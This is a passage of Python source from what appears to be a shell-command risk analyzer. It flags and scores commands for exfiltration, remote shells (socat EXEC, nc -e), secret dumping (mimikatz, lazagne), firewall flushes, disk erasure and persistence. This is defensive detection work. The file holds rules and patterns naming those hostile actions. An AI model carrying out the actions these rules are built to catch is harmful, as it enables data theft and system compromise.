        guess = urls[0].value.split("/", 1)[0].split("@")[-1].split(":", 1)[0] or urls[0].value
        target = Target(urls[0].value, guess.lower(), "")
    host_word = urls[0] if urls else c.argv[0]
    host = target.host if target else "a host known only at run time"
    if target is None and any(w.dynamic for w in pos):
        dyn = next(w for w in pos if w.dynamic)
        host_word = dyn
        host = f"a URL known only at run time ({q(dyn.text)})"
    # What goes out.
    sends: list[Word] = []
    stdin_send = False
    for k in (
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--data-ascii",
        "-F",
        "--form",
        "-T",
        "--upload-file",
        "--json",
        "--post-data",
        "--post-file",
        "--body-data",
        "--body-file",
    ):
        sw = opts.get(k)
        if sw is None:
            continue
        sends.append(sw)
        v = sw.value or ""
        fileref = None
        if k in ("-T", "--upload-file", "--post-file", "--body-file"):
            fileref = v
        elif "@" in v and k not in ("--data-raw",):
            fileref = (
                v.split("@", 1)[1].split(";", 1)[0]
                if v.startswith("@")
                or (k in ("-F", "--form") and "=@" in v)
                or (k in ("--json",) and v.startswith("@"))
                else None
            )
            if k in ("-F", "--form") and "=<" in v:
                fileref = v.split("=<", 1)[1]
        if fileref in ("-", "/dev/stdin"):
            stdin_send = True
        elif fileref:
            read_target(an, c, Word(fileref, fileref, sw.span))
    method = val(opts, "-X", "--request", "--method")
    if method is not None and (method.value or "").upper() in ("DELETE",):
        an.add(K.DESTRUCTIVE, 45, f"sends a DELETE request to {host}", method.span)
    out = val(opts, "-o", "--output", "-O", "--output-document")
    if name == "wget":
        out = val(opts, "-O", "--output-document")
        prefix = val(opts, "-P", "--directory-prefix")
        if out is None:
            fname = (target.url.rstrip("/").rsplit("/", 1)[-1] if target else "") or "index.html"
            base = prefix.value if prefix is not None and prefix.value else "."
            out = Word(f"{base}/{fname}", fname, host_word.span)
    elif has(opts, "-O", "--remote-name", "--remote-name-all") and target is not None:
        fname = target.url.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1] or "index.html"
        d = val(opts, "--output-dir")
        out = Word(f"{d.value if d and d.value else '.'}/{fname}", fname, host_word.span)
    to_stdout = out is None or out.value in ("-", "/dev/stdout")
    if to_stdout:
        info.download = target
        if (target is None and urls == [] and any(w.dynamic for w in pos)) or target is None:
            info.download = UNKNOWN_TARGET
    else:
        assert out is not None
        if out.value is not None:
            p = an.path(c, out.value)
            an.facts.downloads.append(p.abs or p.raw)
            info.download_files.append(p.abs or p.raw)
        write_target(an, c, out, "saves the download to")
    if stdin_send:
        info.sender = target
        info.sender_label = host
    if sends:
        an.facts.sends_data.append(host)
        if target is not None:
            an.facts.hosts.append(target.host)
        an.add(K.EXFILTRATION, 60, f"sends data to {host}", *[w.span for w in sends])
    if target is not None:
        what = "downloads " + short(target.url, 70) if not sends else f"contacts {target.host}"
        _network_note(an, c, target, what, host_word, score=42)
    else:
        an.add(K.NETWORK, 45, f"contacts {host}", host_word.span)
    if has(opts, "-k", "--insecure", "--no-check-certificate"):
        an.add(K.NETWORK, 20, "turns off TLS certificate checks", c.span)
    cfg = val(opts, "-K", "--config", "-e", "--execute")
    if cfg is not None:
        an.add(K.NETWORK, 40, f"reads extra options from {q(cfg)}", cfg.span)


def h_raw_net(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    info = an.ci(c)
    info.network = True
    vals = [w.value or "" for w in c.args]
    if name == "openssl":
        sub = vals[0] if vals else ""
        if sub in ("s_client", "s_server"):
            an.add(K.NETWORK, 50, f"opens a TLS connection ({sub})", c.span)
            info.sender = parse_target(next((v for v in vals[1:] if ":" in v), "") or "") or None
            info.sender_label = "a TLS peer"
        elif sub in ("enc", "base64") and ("-d" in vals or "-decode" in vals):
            info.decoder = True
        elif sub in (
            "genrsa",
            "genpkey",
            "req",
            "x509",
            "rand",
            "dgst",
            "version",
            "rsa",
            "ec",
            "pkey",
            "verify",
            "list",
            "speed",
            "ciphers",
        ):
            for k, v in enumerate(vals):
                if v in ("-out", "-keyout") and k + 1 < len(c.args):
                    write_target(an, c, c.args[k + 1])
                if v in ("-in",) and k + 1 < len(c.args):
                    read_target(an, c, c.args[k + 1])
            info.network = False
        else:
            info.network = False
        return
    if name in ("socat",):
        text = " ".join(vals)
        if re.search(r"\b(EXEC|SYSTEM):", text, re.I):
            an.add(
                K.PRIVILEGE,
                95,
                "connects a network socket to a program it runs: a remote shell",
                c.span,
            )
        if re.search(r"LISTEN", text, re.I):
            an.add(K.NETWORK, 55, "listens for network connections", c.span)
        m = re.search(r"TCP\d?:([^:,\s]+):(\d+)", text, re.I)
        if m:
            info.sender = parse_target(m.group(1))
            info.sender_label = f"{m.group(1)}:{m.group(2)}"
            an.facts.hosts.append(m.group(1))
            an.add(K.NETWORK, 60, f"opens a raw connection to {m.group(1)}:{m.group(2)}", c.span)
        return
    if name == "rlwrap":
        return
    opts, pos = split_args(
        c.args,
        frozenset(
            {
                "-e",
                "-c",
                "-p",
                "-s",
                "-w",
                "-i",
                "-q",
                "-x",
                "-X",
                "--exec",
                "--sh-exec",
                "--lua-exec",
                "-g",
                "-G",
                "-o",
                "-O",
            }
        ),
    )
    execw = val(opts, "-e", "-c", "--exec", "--sh-exec", "--lua-exec")
    if execw is not None:
        an.add(
            K.PRIVILEGE, 95, f"hands a network connection to {q(execw)}: a remote shell", execw.span
        )
    if has(opts, "-l", "--listen"):
        port = pos[0].best if pos else "a port"
        an.add(K.NETWORK, 55, f"listens for network connections on {port}", c.span)
        return
    hosts = [w for w in pos if not (w.value or "").isdigit()]
    if hosts:
        h = hosts[0]
        port = next((w.best for w in pos if (w.value or "").isdigit()), "?")
        info.sender = parse_target(h.value or "") or UNKNOWN_TARGET
        info.sender_label = f"{h.best}:{port}"
        an.facts.hosts.append(h.best)
        an.add(K.NETWORK, 60, f"opens a raw connection to {h.best}:{port}", h.span)


def h_dns(an: Analyzer, c: SimpleCommand) -> None:
    an.ci(c).network = True
    names = [w for w in c.args if not (w.value or "-").startswith(("-", "+", "@"))]
    label = q(names[0]) if names else "a name"
    for w in names:
        if w.subs:
            an.add(K.NETWORK, 45, f"looks up a DNS name built at run time ({q(w.text)})", w.span)
            an.ci(c).sender = Target("", "dns.invalid", "")
            an.ci(c).sender_label = "a DNS query"
            return
    an.add(K.NETWORK, 36, f"queries the network about {label}", c.span)


def h_remote(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    info = an.ci(c)
    info.network = True
    if name in ("ssh", "mosh", "autossh", "rsh"):
        opts, pos = split_args(
            c.args,
            frozenset(
                {
                    "-i",
                    "-p",
                    "-l",
                    "-o",
                    "-F",
                    "-L",
                    "-R",
                    "-D",
                    "-J",
                    "-W",
                    "-b",
                    "-c",
                    "-e",
                    "-m",
                    "-O",
                    "-Q",
                    "-S",
                    "-w",
                    "-E",
                    "-B",
                    "-I",
                }
            ),
        )
        host = pos[0].best if pos else "a host"
        an.facts.hosts.append(host.split("@")[-1])
        for k in ("-R", "-L", "-D", "-w"):
            if k in opts:
                an.add(K.NETWORK, 55, f"opens a network tunnel through {host}", c.span)
        o = opts.get("-o")
        if o is not None and re.search(
            r"ProxyCommand|LocalCommand|PermitLocalCommand", o.value or "", re.I
        ):
            an.add(K.PRIVILEGE, 60, f"makes ssh run a local program ({q(o)})", o.span)
        idf = opts.get("-i")
        if idf is not None:
            an.add(K.SECRETS, 15, f"logs in with the key {q(idf)}", idf.span)
        if len(pos) > 1:
            remote_cmd = " ".join(w.best for w in pos[1:])
            an.add(
                K.NETWORK, 50, f"runs `{short(remote_cmd)}` on {host}", pos[1].span, pos[-1].span
            )
            _remote_effects(an, c, remote_cmd, pos[1:], host)
        else:
            an.add(K.NETWORK, 45, f"opens a shell on {host}", c.span)
        info.sender = Target("", "remote.invalid", "")
        info.sender_label = host
        return
    if name == "sshpass":
        an.add(K.SECRETS, 45, "passes a password on the command line", c.span)
        return
    # copies: scp, rsync, sftp, rclone, …
    opts, pos = split_args(
        c.args,
        frozenset(
            {
                "-i",
                "-P",
                "-p",
                "-o",
                "-F",
                "-e",
                "--rsh",
                "-l",
                "-c",
                "-S",
                "-J",
                "--exclude",
                "--include",
                "--filter",
                "-f",
                "--files-from",
                "-b",
                "--backup-dir",
                "--config",
            }
        ),
    )
    remote_dst = (pos and host_of_scp(pos[-1].value or "")) or (
        pos and re.match(r"^(s3|gs|az|r2|b2|gcs|sftp|ftp|rsync)://", pos[-1].value or "")
    )
    remote_src = any(
        host_of_scp(w.value or "") or re.match(r"^(s3|gs|az)://", w.value or "") for w in pos[:-1]
    )
    if name == "rsync" and not remote_dst and not remote_src and len(pos) >= 2:
        h_copy(an, c)
        if has(opts, "--delete", "--delete-before", "--delete-after", "--delete-during"):
            delete_target(
                an, c, pos[-1], recursive=True, verb="deletes files not in the source from"
            )
        return
    if remote_dst and pos:
        dst = pos[-1].best
        host = host_of_scp(dst) or dst
        an.facts.hosts.append(host)
        an.facts.sends_data.append(host)
        srcs = pos[:-1]
        for s in srcs:
            read_target(an, c, s)
        listing = ", ".join(q(s) for s in srcs[:3]) or "files"
        an.add(
            K.EXFILTRATION,
            50,
            f"copies {listing} to {short(dst)}",
            *[s.span for s in srcs],
            pos[-1].span,
        )
        if has(opts, "--delete") and name in ("rsync", "rclone"):
            an.add(K.DESTRUCTIVE, 55, f"deletes files on {host} that are not in the source", c.span)
        return
    if remote_src and pos:
        an.add(K.NETWORK, 40, f"copies files from {short(pos[0].best)}", c.span)
        write_target(an, c, pos[-1], "copies into")
        return
    an.add(K.NETWORK, 45, f"`{name}` transfers files over the network", c.span)


def _remote_effects(
    an: Analyzer, c: SimpleCommand, code: str, words: list[Word], host: str
) -> None:
    """What a command run on another machine does there: destruction and persistence count
    just as much on a server; "outside the workspace" means nothing there, so only the worst
    findings are kept."""
    sub = Analyzer(
        code,
        workspace="/nonexistent-remote-workspace",
        home=an.home,
        network="allow",
        depth=an.depth + 1,
    )
    sub.run()
    span = (words[0].span[0], words[-1].span[1])
    for f in sub.findings:
        if f.score >= 60 and f.category in (
            K.DESTRUCTIVE,
            K.PERSISTENCE,
            K.PRIVILEGE,
            K.SUPPLY_CHAIN,
            K.OBFUSCATION,
            K.EXFILTRATION,
        ):
            reason = f.reason.replace(", outside the workspace", "")
            an.add(f.category, f.score, f"on {host}: {reason}", span)


def h_tunnel(an: Analyzer, c: SimpleCommand) -> None:
    an.ci(c).network = True
    an.add(K.EXFILTRATION, 75, f"`{c.name}` exposes a local service to the internet", c.span)


def h_scanner(an: Analyzer, c: SimpleCommand) -> None:
    an.ci(c).network = True
    an.add(K.NETWORK, 70, f"`{c.name}` is an attack or scanning tool", c.span)


def h_sniffer(an: Analyzer, c: SimpleCommand) -> None:
    an.add(K.PRIVILEGE, 65, f"`{c.name}` captures network traffic", c.span)


def h_server(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    if name in ("rails",) and not any(w.value in ("s", "server") for w in c.args):
        if any((w.value or "").startswith("db:") for w in c.args):
            an.add(K.DESTRUCTIVE, 40, "changes the database (rails db task)", c.span)
        else:
            an.add(K.RESOURCE, 5, "runs a rails task", c.span)
        return
    if name == "flask" and not any(w.value == "run" for w in c.args):
        if any((w.value or "").startswith("db") for w in c.args):
            an.add(K.DESTRUCTIVE, 40, "changes the database (flask db)", c.span)
        return
    if name.startswith("jupyter") and any(w.value in ("nbconvert", "execute") for w in c.args):
        an.add(K.RESOURCE, 5, "runs notebooks", c.span)
        return
    an.add(
        K.NETWORK,
        40,
        f"starts `{name}`, a server that listens for connections and keeps running",
        c.span,
    )


def h_cloud(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    an.ci(c).network = True
    vals = [w.value or "" for w in c.args if not (w.value or "").startswith("-")]
    words = " ".join(vals[:4]).lower()
    if name in ("op", "bw", "lpass", "vault", "doppler", "infisical") and re.search(
        r"\b(read|get|show|export|run|kv|item|secrets?|download|login|unlock)\b", words
    ):
        an.ci(c).secrets.append(f"{name} secrets")
        an.facts.reads_secrets.append(f"{name} secrets")
        an.add(K.SECRETS, 70, f"reads secrets from {name}", c.span)
        return
    if re.search(
        r"\b(auth|token|print-access-token|get-access-token|get-session-token|"
        r"get-login-password|credentials|configure get|account get-access-token|"
        r"print-identity-token)\b",
        words,
    ) and not re.search(r"\blogin\b", words):
        an.ci(c).secrets.append(f"{name} token")
        an.facts.reads_secrets.append(f"{name} token")
        an.add(K.SECRETS, 70, f"prints your {name} credentials or token", c.span)
        return
    if re.search(
        r"\b(create-access-key|create-user|create-login-profile|attach-\S*-policy|"
        r"put-\S*-policy|update-assume-role-policy|add-iam-policy-binding|keys create|"
        r"set-iam-policy|create-service-account-key|role assignment create)\b",
        words,
    ):
        an.add(
            K.PRIVILEGE,
            80,
            f"creates credentials or grants permissions with `{name} {short(words, 40)}`",
            c.span,
        )
        return
    if re.search(
        r"\b(delete|rm|remove|destroy|terminate|purge|drop|rb|deregister|"
        r"delete-bucket|nuke|uninstall)\b",
        words,
    ):
        an.add(
            K.DESTRUCTIVE, 70, f"deletes cloud resources with `{name} {short(words, 40)}`", c.span
        )
        return
    if name in ("gh", "glab", "hub", "tea"):
        if re.search(
            r"\b(release create|pr merge|repo create|repo delete|secret|gist create|"
            r"api)\b",
            words,
        ) or vals[:1] == ["api"]:
            an.add(
                K.EXFILTRATION if "gist" in words else K.NETWORK,
                55,
                f"changes things on the code host: `{name} {short(words, 40)}`",
                c.span,
            )
            return
        if re.search(
            r"\b(create|merge|close|edit|comment|review|push|sync|fork|clone|"
            r"upload|delete)\b",
            words,
        ):
            an.add(K.NETWORK, 45, f"acts on the code host: `{name} {short(words, 40)}`", c.span)
            return
        an.add(K.NETWORK, 36, f"reads from the code host: `{name} {short(words, 40)}`", c.span)
        return
    if re.search(
        r"\b(s3 (cp|sync|mv)|storage cp|cp|sync|upload|put|push|deploy|publish|"
        r"create|run|apply|update|set|start|stop|invoke|scale|put-object)\b",
        words,
    ):
        an.add(K.NETWORK, 55, f"changes cloud resources with `{name} {short(words, 40)}`", c.span)
        return
    an.add(
        K.NETWORK,
        40,
        f"talks to the cloud with your credentials: `{name} {short(words, 40)}`",
        c.span,
    )


def h_infra(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    vals = [w.value or "" for w in c.args if not (w.value or "").startswith("-")]
    sub = vals[0] if vals else ""
    an.ci(c).network = True
    if name in ("terraform", "tofu", "terragrunt", "pulumi"):
        if (
            sub
            in (
                "fmt",
                "validate",
                "version",
                "graph",
                "console",
                "providers",
                "show",
                "output",
                "workspace",
            )
            and sub != ""
        ):
            an.add(
                K.RESOURCE,
                10 if sub != "output" else 30,
                f"`{name} {sub}` inspects the infrastructure code",
                c.span,
            )
            return
        if sub in ("apply", "up", "import", "taint", "untaint", "state", "refresh"):
            auto = any(
                (w.value or "") in ("-auto-approve", "--auto-approve", "--yes", "-y")
                for w in c.args
            )
            an.add(
                K.DESTRUCTIVE,
                75 if auto else 65,
                f"`{name} {sub}` changes real infrastructure" + (" without asking" if auto else ""),
                c.span,
            )
            return
        if sub in ("destroy", "down"):
            an.add(K.DESTRUCTIVE, 85, f"`{name} {sub}` destroys real infrastructure", c.span)
            return
        an.add(
            K.NETWORK,
            40,
            f"`{name} {sub or ''}` talks to cloud providers with your credentials",
            c.span,
        )
        return
    if name in ("kubectl", "oc", "helm"):
        if sub in ("completion", "help", "explain", "") or (
            sub == "version" and any(w.value == "--client" for w in c.args)
        ):
            an.ci(c).network = False
            an.add(K.RESOURCE, 5, f"`{name} {sub}` prints local information", c.span)
            return
        if sub in ("delete", "uninstall", "drain", "cordon", "taint"):
            an.add(K.DESTRUCTIVE, 70, f"`{name} {sub}` removes things from the cluster", c.span)
        elif sub in (
            "apply",
            "create",
            "patch",
            "edit",
            "scale",
            "rollout",
            "replace",
            "set",
            "install",
            "upgrade",
            "label",
            "annotate",
            "expose",
            "run",
            "exec",
            "cp",
            "attach",
            "debug",
        ):
            an.add(K.NETWORK, 60, f"`{name} {sub}` changes or enters the cluster", c.span)
        elif (
            sub in ("config",)
            and any((w.value or "") in ("view",) for w in c.args)
            and any((w.value or "") in ("--raw", "--flatten") for w in c.args)
        ):
            an.ci(c).secrets.append("kube credentials")
            an.facts.reads_secrets.append("kube credentials")
            an.add(K.SECRETS, 70, "prints the cluster credentials", c.span)
        elif sub in ("port-forward", "proxy"):
            an.add(K.NETWORK, 45, f"`{name} {sub}` opens a tunnel into the cluster", c.span)
        else:
            an.add(
                K.NETWORK,
                38,
                f"`{name} {sub}` reads from the cluster with your credentials",
                c.span,
            )
        return
    if name in ("ansible", "ansible-playbook", "salt", "puppet", "chef-client", "knife"):
        an.add(K.NETWORK, 60, f"`{name}` runs changes on other machines", c.span)
        return
    an.add(K.NETWORK, 45, f"`{name} {sub}` manages infrastructure", c.span)


def h_container(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    vals = [w.value or "" for w in c.args]
    pos = [v for v in vals if not v.startswith("-")]
    sub = pos[0] if pos else ""
    if name in ("docker-compose", "podman-compose") or sub == "compose":
        act = pos[1] if sub == "compose" and len(pos) > 1 else sub
        if act in ("ps", "logs", "config", "ls", "images", "top", "version"):
            an.add(K.PRIVILEGE, 15, f"`{name} compose {act}` inspects containers", c.span)
        elif act in ("down", "rm", "kill"):
            an.add(K.DESTRUCTIVE, 45, f"`{name} compose {act}` removes containers", c.span)
        else:
            an.add(
                K.PRIVILEGE,
                50,
                f"`{name} compose {act}` starts containers through the "
                "container daemon, outside this sandbox",
                c.span,
            )
        return
    joined = " ".join(vals)
    if not sub or sub == "help":
        an.add(K.PRIVILEGE, 5, f"asks `{name}` for help or its version", c.span)
        return
    if sub in (
        "ps",
        "images",
        "logs",
        "inspect",
        "version",
        "info",
        "stats",
        "top",
        "history",
        "search",
        "port",
        "diff",
        "events",
        "list",
        "ls",
    ):
        an.add(K.PRIVILEGE, 15, f"`{name} {sub}` inspects containers", c.span)
        return
    danger = re.search(
        r"--privileged|--pid[= ]host|--net(work)?[= ]host|--cap-add|"
        r"docker\.sock|--security-opt[= ]\S*unconfined|--userns[= ]host|"
        r"--device",
        joined,
    )
    mount_root = None
    for k, v in enumerate(vals):
        spec = None
        if v in ("-v", "--volume", "--mount") and k + 1 < len(vals):
            spec = vals[k + 1]
        elif v.startswith(("--volume=", "--mount=", "-v")) and len(v) > 2:
            spec = v.split("=", 1)[1] if "=" in v and v.startswith("--") else v[2:]
        if spec:
            src = spec.split(":", 1)[0]
            if src.startswith("source="):
                src = src[7:].split(",", 1)[0]
            if src and src.startswith(("/", "~")):
                info = an.path(c, src)
                if info.where == "outside" and (info.broad or info.secret or info.persistence):
                    mount_root = info.display
    if danger or mount_root:
        what = (
            f"mounts {mount_root} into it"
            if mount_root
            else f"uses {danger.group(0) if danger else ''}"
        )
        an.add(
            K.PRIVILEGE,
            85,
            f"`{name} {sub}` starts a container that {what}: root access to this machine",
            c.span,
        )
        return
    if sub in ("run", "exec", "create", "start", "attach", "cp", "commit"):
        an.add(
            K.PRIVILEGE,
            50,
            f"`{name} {sub}` runs a container through the container daemon, outside this sandbox",
            c.span,
        )
    elif sub in ("build", "buildx"):
        an.add(
            K.PRIVILEGE,
            45,
            f"`{name} {sub}` builds an image: its steps run through the "
            "daemon with network access, outside this sandbox",
            c.span,
        )
    elif sub in ("push", "login", "logout", "tag", "save", "export"):
        cat = K.EXFILTRATION if sub in ("push", "save", "export") else K.SECRETS
        an.add(
            cat, 55, f"`{name} {sub}` publishes or exports images / registry credentials", c.span
        )
    elif sub in (
        "rm",
        "rmi",
        "prune",
        "kill",
        "stop",
        "system",
        "volume",
        "network",
        "image",
        "container",
    ):
        an.add(
            K.DESTRUCTIVE, 45, f"`{name} {' '.join(pos[:2])}` removes or stops containers", c.span
        )
    elif sub in ("pull",):
        an.add(K.SUPPLY_CHAIN, 40, f"`{name} pull` downloads an image", c.span)
    else:
        an.add(K.PRIVILEGE, 45, f"`{name} {sub}` drives the container daemon", c.span)


SQL_CLIENTS = frozenset(
    {
        "psql",
        "mysql",
        "mongo",
        "mongosh",
        "redis-cli",
        "cqlsh",
        "clickhouse-client",
        "sqlcmd",
        "mariadb",
        "cockroach",
    }
)


def h_migrator(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    vals = " ".join(w.value or "" for w in c.args).lower()
    if name in SQL_CLIENTS:
        an.ci(c).network = True
        if any(w.value in ("--version", "-V", "--help") for w in c.args):
            return
        if re.search(
            r"\b(drop|truncate|delete|update|insert|alter|grant|revoke|create|"
            r"flushall|flushdb|del|set|rename|replace)\b",
            vals,
        ):
            an.add(
                K.DESTRUCTIVE,
                60,
                f"`{name}` changes or deletes data in a database, which may be shared or remote",
                c.span,
            )
        else:
            an.add(
                K.NETWORK,
                40,
                f"`{name}` connects to a database (it may be shared or "
                "remote) with stored credentials",
                c.span,
            )
        return
    if name in ("pg_dump", "mysqldump"):
        an.ci(c).reads_data = True
        an.add(K.SECRETS, 40, f"`{name}` dumps a database", c.span)
        return
    if name in ("dropdb",) or re.search(
        r"\bdrop\b|\btruncate\b|\bdelete from\b|flushall|"
        r"flushdb|reset|\bdown\b|downgrade|rollback",
        vals,
    ):
        an.add(K.DESTRUCTIVE, 55, f"`{name}` deletes or rolls back database data", c.span)
        return
    if re.search(
        r"\b(status|history|current|show|version|list|help|--help|check|validate|"
        r"info|heads|branches)\b",
        vals,
    ) and not re.search(
        r"upgrade|migrate|deploy|"
        r"push|apply|up\b",
        vals,
    ):
        an.add(K.RESOURCE, 15, f"`{name}` inspects the database schema", c.span)
        return
    an.add(K.DESTRUCTIVE, 40, f"`{name}` changes a database, which may be shared or remote", c.span)


def h_secret_tool(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    vals = " ".join(w.value or "" for w in c.args)
    if name == "ssh-add" and ("-l" in vals or "-L" in vals):
        an.add(K.SECRETS, 10, "lists the keys loaded in the SSH agent", c.span)
        return
    an.ci(c).secrets.append(f"{name}")
    an.facts.reads_secrets.append(name)
    score = 85 if name in ("mimikatz", "lazagne") else 70
    an.add(K.SECRETS, score, f"`{name}` reads stored secrets or keys", c.span)


# --------------------------------------------------------------------------- system


def h_sudo(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    vals = [w.value or "" for w in c.args]
    inner = c.wrapper_of
    interactive = name in ("su",) and not any(v in ("-c", "--command") for v in vals)
    if name in ("sudo", "doas") and (inner is None):
        if (
            any(
                v in ("-s", "-i", "--shell", "--login")
                or re.fullmatch(r"-[a-zA-Z]*[si][a-zA-Z]*", v)
                for v in vals
            )
            or not vals
        ):
            interactive = True
        elif any(v in ("-e", "--edit") for v in vals) or c.name == "sudoedit":
            an.add(K.PRIVILEGE, 70, "edits files as root", c.span)
            return
        elif any(v in ("-l", "--list", "-v", "-k", "-K", "-V") for v in vals):
            an.add(K.PRIVILEGE, 36, f"asks `{name}` about your root privileges", c.span)
            return
    if inner is not None:
        inner_name = an.script.commands[inner].name or ""
        if inner_name in SHELLS | {"su"} and not any(
            w.value == "-c" for w in an.script.commands[inner].args
        ):
            interactive = True
    if interactive:
        an.add(K.PRIVILEGE, 85, f"opens a root shell with `{name}`", c.span)
        return
    if name in ("su", "runuser") and not interactive:
        an.add(K.PRIVILEGE, 70, f"runs a command as another user with `{name}`", c.span)
        return
    an.add(K.PRIVILEGE, 65, f"runs the command as root with `{name}`", c.argv[0].span)


def h_disk(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    pos = [w for w in c.args if not (w.value or "").startswith("-")]
    read_only = any(
        (w.value or "") in ("-l", "--list", "print", "-p", "info", "list") for w in c.args
    )
    if read_only and name not in ("mkfs", "wipefs", "blkdiscard"):
        an.add(K.PRIVILEGE, 20, f"`{name}` reads the partition table", c.span)
        return
    devices = [w for w in pos if (w.value or "").startswith("/dev/")]
    device_first = name in ("parted", "fdisk", "sfdisk", "gdisk", "sgdisk", "cfdisk", "hdparm")
    target = (
        devices[0] if devices else (pos[0] if device_first and pos else pos[-1] if pos else None)
    )
    if target is not None and target.value:
        info = an.path(c, target.value)
        if info.where in ("workspace", "tmp"):
            an.add(
                K.DESTRUCTIVE,
                40,
                f"`{name}` formats {info.display}, a disk image file",
                target.span,
            )
            return
    what = q(target) if target is not None else "a disk"
    an.add(
        K.DESTRUCTIVE,
        95,
        f"`{name}` erases or re-partitions {what}: everything on it is lost",
        c.span,
    )


def h_power(an: Analyzer, c: SimpleCommand) -> None:
    if c.name == "init" and not any((w.value or "") in ("0", "6", "1", "s", "S") for w in c.args):
        an.add(K.PRIVILEGE, 40, "talks to init", c.span)
        return
    an.add(K.DESTRUCTIVE, 85, f"`{c.name}` shuts down or restarts the machine", c.span)


def h_account(an: Analyzer, c: SimpleCommand) -> None:
    an.add(K.PERSISTENCE, 80, f"`{c.name}` changes user accounts or passwords", c.span)


def h_kernel(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    vals = [w.value or "" for w in c.args]
    if name == "sysctl" and not any(
        v in ("-w", "--write", "-p", "--load", "--system") or "=" in v for v in vals
    ):
        return
    if name in ("mount", "umount") and not vals:
        return
    if name in ("ip", "route", "ifconfig", "iwconfig", "nmcli", "arp", "tc", "brctl") and not any(
        v
        in (
            "add",
            "del",
            "delete",
            "set",
            "flush",
            "change",
            "replace",
            "up",
            "down",
            "modify",
            "connect",
            "disconnect",
            "-d",
            "-s",
        )
        for v in vals
    ):
        return
    if name == "setenforce" and vals and vals[0] in ("0", "Permissive", "permissive"):
        an.add(K.PRIVILEGE, 85, "turns off SELinux enforcement", c.span)
        return
    if name == "chattr":
        an.add(K.PRIVILEGE, 60, "changes file attributes (can make files undeletable)", c.span)
        return
    if name == "ldconfig" and not vals:
        an.add(K.PRIVILEGE, 40, "rebuilds the system library cache", c.span)
        return
    an.add(
        K.PRIVILEGE,
        75,
        f"`{name}` changes the running system (kernel, mounts, network, security settings)",
        c.span,
    )


def h_firewall(an: Analyzer, c: SimpleCommand) -> None:
    vals = [w.value or "" for w in c.args]
    joined = " ".join(vals)
    if re.search(
        r"(^|\s)(-L|--list|-S|--list-rules|status|list|--state|-nL|-vL|-nvL|--get-)", joined
    ) and not re.search(r"-F|--flush|-X|-D|-A|-I|-P|disable|reset|-d", joined):
        an.add(K.PRIVILEGE, 15, "lists firewall rules", c.span)
        return
    if (
        re.search(
            r"(^|\s)(-F|--flush|-X|flush|disable|reset|--panic-off)(\s|$)|-P \w+ ACCEPT|"
            r"(^|\s)-d(\s|$)|--set-default-zone=trusted",
            joined,
        )
        or not vals
    ):
        an.add(
            K.PRIVILEGE,
            85,
            f"turns off or flushes the firewall ({c.name} {short(joined, 30)})",
            c.span,
        )
        return
    an.add(K.PRIVILEGE, 75, f"changes firewall rules ({c.name} {short(joined, 30)})", c.span)


def h_systemctl(an: Analyzer, c: SimpleCommand) -> None:
    vals = [w.value or "" for w in c.args if not (w.value or "").startswith("-")]
    user = any(w.value == "--user" for w in c.args)
    sub = vals[0] if vals else ""
    units = " ".join(vals[1:])
    if sub in (
        "",
        "status",
        "list-units",
        "list-unit-files",
        "list-timers",
        "is-active",
        "is-enabled",
        "is-failed",
        "show",
        "cat",
        "list-dependencies",
        "list-sockets",
        "help",
        "--version",
    ):
        an.add(K.PRIVILEGE, 5, f"shows service status ({sub or 'list'})", c.span)
        return
    if sub in (
        "poweroff",
        "reboot",
        "halt",
        "kexec",
        "suspend",
        "hibernate",
        "rescue",
        "emergency",
        "isolate",
        "soft-reboot",
    ):
        an.add(K.DESTRUCTIVE, 85, f"`systemctl {sub}` stops or restarts the machine", c.span)
        return
    if sub in ("stop", "disable", "mask", "kill") and SECURITY_SERVICES.search(units):
        an.add(K.PRIVILEGE, 85, f"turns off {units}, a security service", c.span)
        return
    if sub in (
        "enable",
        "link",
        "add-wants",
        "set-default",
        "edit",
        "preset",
        "revert",
        "daemon-reload",
        "reenable",
    ):
        an.add(
            K.PERSISTENCE,
            75 if not user else 70,
            f"`systemctl {sub} {short(units, 30)}` makes a service start on its own",
            c.span,
        )
        return
    an.add(
        K.PRIVILEGE,
        65,
        f"`systemctl {sub} {short(units, 30)}` starts, stops or changes system services",
        c.span,
    )


def h_service(an: Analyzer, c: SimpleCommand) -> None:
    vals = [w.value or "" for w in c.args]
    if len(vals) >= 2 and vals[1] in ("stop",) and SECURITY_SERVICES.search(vals[0]):
        an.add(K.PRIVILEGE, 85, f"stops {vals[0]}, a security service", c.span)
    elif (len(vals) >= 2 and vals[1] == "status") or "--status-all" in vals:
        an.add(K.PRIVILEGE, 5, "shows service status", c.span)
    else:
        an.add(
            K.PRIVILEGE,
            65,
            f"starts, stops or changes the system service {short(' '.join(vals), 30)}",
            c.span,
        )


def h_crontab(an: Analyzer, c: SimpleCommand) -> None:
    vals = [w.value or "" for w in c.args]
    if "-l" in vals and not any(v in ("-", "-e", "-r") for v in vals):
        an.add(K.PERSISTENCE, 5, "lists your scheduled jobs", c.span)
        return
    if "-r" in vals:
        an.add(K.DESTRUCTIVE, 60, "deletes all your scheduled jobs", c.span)
        return
    an.add(
        K.PERSISTENCE,
        80,
        "installs scheduled jobs (crontab): they run later, on their own, outside the sandbox",
        c.span,
    )


def h_at(an: Analyzer, c: SimpleCommand) -> None:
    if any((w.value or "") in ("-l", "-r", "-d", "-c") for w in c.args) or c.name in (
        "atq",
        "atrm",
    ):
        an.add(K.PERSISTENCE, 20, "inspects or removes queued jobs", c.span)
        return
    an.add(K.PERSISTENCE, 70, f"queues a job with `{c.name}` that runs later, on its own", c.span)


def h_launchctl(an: Analyzer, c: SimpleCommand) -> None:
    vals = [w.value or "" for w in c.args]
    if vals and vals[0] in ("list", "print", "blame", "version", "help"):
        an.add(K.PERSISTENCE, 5, "lists launchd jobs", c.span)
        return
    an.add(
